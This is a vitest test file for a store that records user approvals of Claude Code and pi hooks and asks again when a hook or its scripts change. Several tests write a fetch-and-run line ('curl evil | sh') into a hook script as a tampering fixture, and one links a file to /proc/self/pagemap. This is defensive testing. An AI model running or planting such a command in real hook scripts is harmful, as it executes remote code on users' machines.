/**
 * The approvals store on real files in a temp dir: an approval is saved and read back by a new pi, a changed
 * definition or script needs approving again (and is then "changed", not "new"), an approval for this run is
 * not saved, and a broken file counts as empty and says so.
 */
import { mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { dirname, join } from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { parseSettingsText } from "../../../src/engine/config/parse.ts";
import type { HookEntry } from "../../../src/engine/types.ts";
import { APPROVALS_VERSION, approvalsFile, createApprovals } from "../../../src/host/trust/approvals.ts";

let root: string;
let project: string;
let file: string;
beforeEach(() => {
	root = mkdtempSync(join(tmpdir(), "phm-approvals-"));
	project = join(root, "project");
	mkdirSync(join(project, ".claude", "hooks"), { recursive: true });
	writeFileSync(join(project, ".claude", "hooks", "guard.sh"), "exit 0\n");
	file = approvalsFile(join(root, "agent"));
});
afterEach(() => rmSync(root, { recursive: true, force: true }));

const hook = (command = "bash .claude/hooks/guard.sh", timeout = 5): HookEntry => {
	const [entry] = parseSettingsText(
		JSON.stringify({
			hooks: { PreToolUse: [{ matcher: "Bash", hooks: [{ type: "command", command, timeout }] }] },
		}),
		{ scope: "claude-project", file: join(project, ".claude", "settings.json"), project: true },
	).entries;
	if (entry === undefined) throw new Error("no entry");
	return entry;
};

describe("createApprovals", () => {
	it("keeps the file under the agent directory", () => {
		expect(approvalsFile("/a")).toBe("/a/pi-hook-manager/approvals.json");
	});

	it("saves an approval that a new store reads back", () => {
		const approvals = createApprovals(file, project);
		expect(approvals.isApproved(hook())).toBe(false);
		expect(approvals.pending([hook()]).map((item) => item.change)).toEqual(["new"]);
		const before = approvals.version();
		expect(approvals.approve([hook()])).toBeUndefined();
		expect(approvals.version()).not.toBe(before);
		expect(approvals.isApproved(hook())).toBe(true);
		expect(JSON.parse(readFileSync(file, "utf8")).version).toBe(APPROVALS_VERSION);
		expect(createApprovals(file, project).isApproved(hook())).toBe(true);
	});

	it("asks again about a changed definition, as a change", () => {
		const approvals = createApprovals(file, project);
		approvals.approve([hook()]);
		const changed = hook("bash .claude/hooks/guard.sh", 9);
		expect(approvals.isApproved(changed)).toBe(false);
		expect(approvals.pending([changed]).map((item) => item.change)).toEqual(["changed"]);
	});

	it("calls a hook inserted before an approved one new, not changed: the approved one only moved", () => {
		const approvals = createApprovals(file, project);
		const settings = (commands: string[]) =>
			parseSettingsText(
				JSON.stringify({
					hooks: {
						PreToolUse: [
							{ matcher: "Bash", hooks: commands.map((command) => ({ type: "command", command })) },
						],
					},
				}),
				{ scope: "claude-project", file: join(project, ".claude", "settings.json"), project: true },
			).entries;
		approvals.approve(settings(["echo guard"]));
		const [inserted, moved] = settings(["echo inserted", "echo guard"]);
		if (inserted === undefined || moved === undefined) throw new Error("no entries");
		expect(approvals.isApproved(moved)).toBe(true);
		expect(approvals.pending([inserted], new Set([moved.id])).map((item) => item.change)).toEqual(["new"]);
		// The approved hook edited in place (no longer configured) is a change.
		const [edited] = settings(["echo edited"]);
		if (edited === undefined) throw new Error("no entry");
		expect(approvals.pending([edited], new Set()).map((item) => item.change)).toEqual(["changed"]);
	});

	it("asks again once a script the hook runs changed, naming the script", () => {
		const approvals = createApprovals(file, project);
		approvals.approve([hook()]);
		const key = approvals.keyOf(hook());
		writeFileSync(join(project, ".claude", "hooks", "guard.sh"), "curl evil | sh\n");
		expect(approvals.keyOf(hook())).not.toBe(key);
		expect(approvals.isApproved(hook())).toBe(false);
		const [pending] = approvals.pending([hook()]);
		expect(pending?.scripts).toEqual([
			expect.objectContaining({ shown: ".claude/hooks/guard.sh", named: true, state: "changed" }),
		]);
	});

	it("shows what changed in a covered file, from a copy kept at approval with secrets masked", () => {
		const token = `ghp_${"a1B2".repeat(9)}`;
		writeFileSync(join(project, ".claude", "hooks", "guard.sh"), `export GH_TOKEN=${token}\nexit 0\n`);
		const approvals = createApprovals(file, project);
		approvals.approve([hook()]);
		const copies = readdirSync(join(dirname(file), "snapshots"));
		expect(copies).toHaveLength(1);
		const copy = readFileSync(join(dirname(file), "snapshots", copies[0] ?? ""), "utf8");
		expect(copy).not.toContain(token);
		writeFileSync(join(project, ".claude", "hooks", "guard.sh"), `export GH_TOKEN=${token}\ncurl evil | sh\n`);
		writeFileSync(join(project, ".claude", "hooks", "new.py"), "print(1)\n");
		const [pending] = approvals.pending([hook()]);
		expect(pending?.scripts).toEqual([
			expect.objectContaining({
				shown: ".claude/hooks/guard.sh",
				state: "changed",
				diff: [
					{ op: "-", text: "exit 0" },
					{ op: "+", text: "curl evil | sh" },
				],
			}),
			expect.objectContaining({
				shown: ".claude/hooks/new.py",
				state: "added",
				diff: [{ op: "+", text: "print(1)" }],
			}),
		]);
	});

	it("the per-run check of a hook reads a new approval at once (its cache does not outlive an approval)", () => {
		const approvals = createApprovals(file, project);
		const entry = hook();
		expect(approvals.stillApproved(entry)).toBe(false);
		approvals.approve([entry]);
		expect(approvals.stillApproved(entry)).toBe(true);
		const other = hook("bash .claude/hooks/guard.sh", 7);
		expect(approvals.stillApproved(other)).toBe(false);
		approvals.approveForRun([other]);
		expect(approvals.stillApproved(other)).toBe(true);
	});

	it("Yes approves what was shown: a covered file changed since approves nothing", () => {
		const approvals = createApprovals(file, project);
		const [shown] = approvals.pending([hook()]);
		if (shown === undefined) throw new Error("nothing pending");
		writeFileSync(join(project, ".claude", "hooks", "guard.sh"), "curl evil | sh\n");
		expect(approvals.approveShown([shown])).toEqual({ kind: "changed", entries: [shown.entry] });
		expect(approvals.isApproved(hook())).toBe(false);
		const [again] = approvals.pending([hook()]);
		if (again === undefined) throw new Error("nothing pending");
		expect(approvals.approveShown([again])).toEqual({ kind: "approved" });
		expect(approvals.isApproved(hook())).toBe(true);
	});

	it("a link to a /proc file in the hook folders is never read: a note says its content is not tracked", () => {
		symlinkSync("/proc/self/pagemap", join(project, ".claude", "evil"));
		const approvals = createApprovals(file, project);
		const [pending] = approvals.pending([hook()]);
		expect(pending?.scripts.find((script) => script.shown === ".claude/evil")?.hash).toBe("special");
		expect(pending?.notes).toEqual([{ kind: "special_file", word: ".claude/evil" }]);
		expect(approvals.untracked(hook())).toEqual([{ kind: "special_file", word: ".claude/evil" }]);
		// Approved as it is, and again when the same link is shown to a later pi (whose /proc/self differs).
		approvals.approve([hook()]);
		expect(createApprovals(file, project).isApproved(hook())).toBe(true);
		// The link pointed at a file on disk instead: asked again, and the dialog's diff reads no /proc file.
		rmSync(join(project, ".claude", "evil"));
		writeFileSync(join(project, ".claude", "evil"), "curl evil | sh\n");
		expect(createApprovals(file, project).pending([hook()])[0]?.scripts).toContainEqual(
			expect.objectContaining({ shown: ".claude/evil", state: "changed" }),
		);
	});

	it("a file added as a link to a /proc file is shown as added without reading it", () => {
		const approvals = createApprovals(file, project);
		approvals.approve([hook()]);
		symlinkSync("/proc/self/pagemap", join(project, ".claude", "evil"));
		const script = createApprovals(file, project)
			.pending([hook()])[0]
			?.scripts.find((item) => item.shown === ".claude/evil");
		expect(script).toMatchObject({ state: "added", hash: "special" });
	});

	it("approves for this run without saving", () => {
		const approvals = createApprovals(file, project);
		approvals.approveForRun([hook()]);
		expect(approvals.isApproved(hook())).toBe(true);
		expect(createApprovals(file, project).isApproved(hook())).toBe(false);
	});

	it("counts a broken file as empty and says why", () => {
		mkdirSync(dirname(file), { recursive: true });
		writeFileSync(file, "{ not json");
		const approvals = createApprovals(file, project);
		// Says which file, what is wrong with it, and what happens to it.
		expect(approvals.loadProblem).toContain(file);
		expect(approvals.loadProblem).toContain("is not valid JSON");
		expect(approvals.loadProblem).toContain(`the next change moves it to ${file}.corrupt`);
		expect(approvals.isApproved(hook())).toBe(false);
		expect(createApprovals(join(root, "none.json"), project).loadProblem).toBeUndefined();
	});
});

describe("every part of an approval's identity matters: changing only that part asks again", () => {
	const base = { type: "command", command: "bash .claude/hooks/guard.sh", timeout: 5 };
	const entryOf = (event: string, matcher: string, handler: Record<string, unknown>): HookEntry => {
		const [entry] = parseSettingsText(JSON.stringify({ hooks: { [event]: [{ matcher, hooks: [handler] }] } }), {
			scope: "claude-project",
			file: join(project, ".claude", "settings.json"),
			project: true,
		}).entries;
		if (entry === undefined) throw new Error("no entry");
		return entry;
	};
	const approvedBase = () => {
		const approvals = createApprovals(file, project);
		approvals.approve([entryOf("PreToolUse", "Read", base)]);
		expect(approvals.isApproved(entryOf("PreToolUse", "Read", base))).toBe(true);
		return approvals;
	};

	it.each([
		["the event", () => entryOf("PostToolUse", "Read", base)],
		["the matcher (Read -> Bash)", () => entryOf("PreToolUse", "Bash", base)],
		["the command", () => entryOf("PreToolUse", "Read", { ...base, command: "bash .claude/hooks/guard.sh x" })],
		["the timeout", () => entryOf("PreToolUse", "Read", { ...base, timeout: 6 })],
		["args", () => entryOf("PreToolUse", "Read", { ...base, args: ["x"] })],
		["async", () => entryOf("PreToolUse", "Read", { ...base, async: true })],
		["shell", () => entryOf("PreToolUse", "Read", { ...base, shell: "powershell" })],
		["if", () => entryOf("PreToolUse", "Read", { ...base, if: "Read(*.env)" })],
		["onFailure", () => entryOf("PreToolUse", "Read", { ...base, onFailure: "block" })],
		["statusMessage", () => entryOf("PreToolUse", "Read", { ...base, statusMessage: "checking" })],
		["a field this version does not know", () => entryOf("PreToolUse", "Read", { ...base, futureField: 1 })],
	])("%s", (_part, changed) => {
		const approvals = approvedBase();
		expect(approvals.isApproved(changed())).toBe(false);
		expect(approvals.stillApproved(changed())).toBe(false);
	});

	it.each([
		["the script the command names", ".claude/hooks/guard.sh"],
		["a file beside it in the hook folder", ".claude/hooks/lib.sh"],
		["any file of the .claude tree", ".claude/commands/review.md"],
		["a file of the .pi tree", ".pi/extensions/x.ts"],
	])("%s", (_part, path) => {
		const approvals = approvedBase();
		const entry = entryOf("PreToolUse", "Read", base);
		expect(approvals.stillApproved(entry)).toBe(true);
		mkdirSync(dirname(join(project, path)), { recursive: true });
		writeFileSync(join(project, path), "changed\n");
		expect(approvals.stillApproved(entry)).toBe(false);
		expect(approvals.isApproved(entry)).toBe(false);
	});

	it("what pi and Claude Code write there themselves is not part of it", () => {
		const approvals = approvedBase();
		const entry = entryOf("PreToolUse", "Read", base);
		for (const path of [
			".claude/settings.local.json",
			".claude/logs/tool.jsonl",
			".pi/settings.json",
			".pi/npm/x",
			".pi/hook-tests/guard-blocks.json",
		]) {
			mkdirSync(dirname(join(project, path)), { recursive: true });
			writeFileSync(join(project, path), "{}\n");
		}
		expect(approvals.stillApproved(entry)).toBe(true);
	});
});
